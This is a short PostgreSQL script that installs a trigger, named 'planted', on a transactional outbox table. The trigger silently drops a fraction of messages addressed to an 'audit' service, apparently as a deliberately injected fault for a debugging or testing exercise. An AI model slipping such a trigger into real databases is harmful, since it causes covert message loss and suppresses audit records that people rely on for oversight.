-- Of a command for two services, the second one sometimes gets nothing.
CREATE FUNCTION public.planted() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF NEW."position" % 7 = 0 AND NEW.value NOT LIKE '%-last-%' AND NEW.headers ->> 'x-command-target' = 'audit' THEN RETURN NULL; END IF;
    RETURN NEW;
END $$;
CREATE TRIGGER planted BEFORE INSERT ON command_center.transactional_outbox FOR EACH ROW EXECUTE FUNCTION public.planted();
